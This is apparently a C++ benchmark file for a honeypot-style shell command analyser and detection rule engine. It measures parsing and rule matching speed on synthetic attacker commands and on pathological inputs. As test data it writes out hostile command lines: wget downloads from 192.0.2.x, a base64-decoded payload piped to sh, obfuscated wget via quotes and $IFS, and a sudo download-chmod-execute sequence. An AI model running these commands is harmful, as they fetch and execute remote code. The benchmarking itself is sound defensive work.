// What it costs to understand a command, and to match rules on what was understood.
//
//   understand/plain    60 bytes that need nothing resolved
//   understand/typed    made-up lines of attackers, of real lengths
//   understand/hidden   the same behind quotes, variables and base64
//   hostile/…           a KiB, 64 KiB and a MiB of what was written against an analysis
//   match/59, match/400 made-up lines by the first 59 and by 400 rules, four in five of which
//   search
//                       what the analysis makes
#include <benchmark/benchmark.h>
#include <fmt/format.h>

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "bench/command_patterns.h"
#include "bench/command_texts.h"
#include "decnet/rules/rule_set.h"
#include "decnet/shell/analysis.h"

namespace decnet::bench {
namespace {

std::vector<std::string> plain_texts() {
  std::vector<std::string> texts;
  for (int i = 0; i < 1000; ++i) {
    texts.push_back(fmt::format("wget -q -O /tmp/update{} http://192.0.2.{}/bins/x86_{:04}", i % 10,
                                i % 250, i));
  }
  return texts;
}

std::string base64(std::string_view text) {
  static constexpr std::string_view kDigits =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::uint32_t buffer = 0;
  unsigned held = 0;
  for (const char c : text) {
    buffer = (buffer << 8) | static_cast<unsigned char>(c);
    held += 8;
    while (held >= 6) {
      held -= 6;
      out += kDigits[(buffer >> held) & 63];
    }
  }
  if (held > 0) out += kDigits[(buffer << (6 - held)) & 63];
  return out;
}

std::vector<std::string> hidden_texts() {
  std::vector<std::string> texts;
  for (const std::string& text : command_texts(1000)) {
    switch (texts.size() % 3) {
      case 0:
        texts.push_back("echo " + base64(text) + " | base64 -d | sh");
        break;
      case 1:
        texts.push_back(
            "a=w\"g\"et; b=http://192.0.2.1; $a$IFS\"$b/x\" -O '/tmp/x' && /bin/c\\at x");
        break;
      default:
        texts.push_back("sudo sh -c 'cd /tmp; {wget,-q} http://192.0.2.1/x; chmod +x ./x; ./x'");
    }
  }
  return texts;
}

void understand(benchmark::State& state, const std::vector<std::string>& texts) {
  shell::Analysis analysis;
  std::size_t next = 0;
  std::size_t bytes = 0;
  for (auto unused : state) {
    (void)unused;
    analysis.run(texts[next]);
    benchmark::DoNotOptimize(analysis.layers().size());
    bytes += texts[next].size();
    next = next + 1 < texts.size() ? next + 1 : 0;
  }
  state.SetItemsProcessed(state.iterations());
  state.SetBytesProcessed(static_cast<std::int64_t>(bytes));
}

void hostile(benchmark::State& state, std::string_view before, std::string_view piece) {
  std::string text(before);
  const auto size = static_cast<std::size_t>(state.range(0)) << 10;
  while (text.size() < size) text += piece;
  shell::Analysis analysis;
  for (auto unused : state) {
    (void)unused;
    analysis.run(text);
    benchmark::DoNotOptimize(analysis.layers().size());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(text.size()) * state.iterations());
}

std::shared_ptr<const rules::RuleSet> rules_of(std::size_t count) {
  static constexpr std::string_view kFields[] = {"command_text", "simple_command", "simple_command",
                                                 "pipeline", "args"};
  std::vector<rules::Definition> definitions;
  for (const std::string& pattern : command_patterns(count).patterns) {
    rules::Definition& rule = definitions.emplace_back();
    rule.id = RuleId(fmt::format("R{:04}", definitions.size()));
    rule.applies_to = {"command"};
    rule.pattern = pattern;
    rule.field = kFields[definitions.size() % std::size(kFields)];
    rule.emits = {{TechniqueId("T1083"), std::nullopt, TacticId("TA0007"), 0.9}};
  }
  return rules::RuleSet::compile(std::move(definitions), *attack::Catalogue::built_in()).rules;
}

void match(benchmark::State& state) {
  const auto rules = rules_of(static_cast<std::size_t>(state.range(0)));
  std::vector<Event> events;
  for (std::string& text : command_texts(20'000)) {
    Event& event = events.emplace_back();
    event.source_kind = "command";
    event.payload = Json::object({{"command_text", std::move(text)}});
  }
  std::size_t next = 0;
  std::size_t matches = 0;
  for (auto unused : state) {
    (void)unused;
    matches += rules->match(events[next]).size();
    next = next + 1 < events.size() ? next + 1 : 0;
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["matches"] =
      static_cast<double>(matches) / static_cast<double>(state.iterations());
}

BENCHMARK_CAPTURE(understand, plain, plain_texts());
BENCHMARK_CAPTURE(understand, typed, command_texts(20'000));
BENCHMARK_CAPTURE(understand, hidden, hidden_texts());
BENCHMARK(match)->Arg(59)->Arg(400);

#define DECNET_HOSTILE(name, before, piece)       \
  BENCHMARK_CAPTURE(hostile, name, before, piece) \
      ->Arg(1)                                    \
      ->Arg(64)                                   \
      ->Arg(1024)                                 \
      ->Unit(benchmark::kMicrosecond)
DECNET_HOSTILE(words, "", "a ");
DECNET_HOSTILE(commands, "", "a;");
DECNET_HOSTILE(quotes, "", "\"'");
DECNET_HOSTILE(nesting, "", "$(");
DECNET_HOSTILE(substitutions, "", "$(a)");
DECNET_HOSTILE(defaults, "", "${a:-$b}");
DECNET_HOSTILE(braces, "", "{a,b}");
DECNET_HOSTILE(brace_words, "", "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} ");
DECNET_HOSTILE(doubling, "a=aaaaaaaa;", "a=$a$a;");
DECNET_HOSTILE(evals, "", "eval ");
DECNET_HOSTILE(decoders, "echo YQ==", "|base64 -d");
DECNET_HOSTILE(cuts, "a=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;", "${a##*b*b*b*b}");
DECNET_HOSTILE(wrappers, "", "sudo ");
#undef DECNET_HOSTILE

}  // namespace
}  // namespace decnet::bench
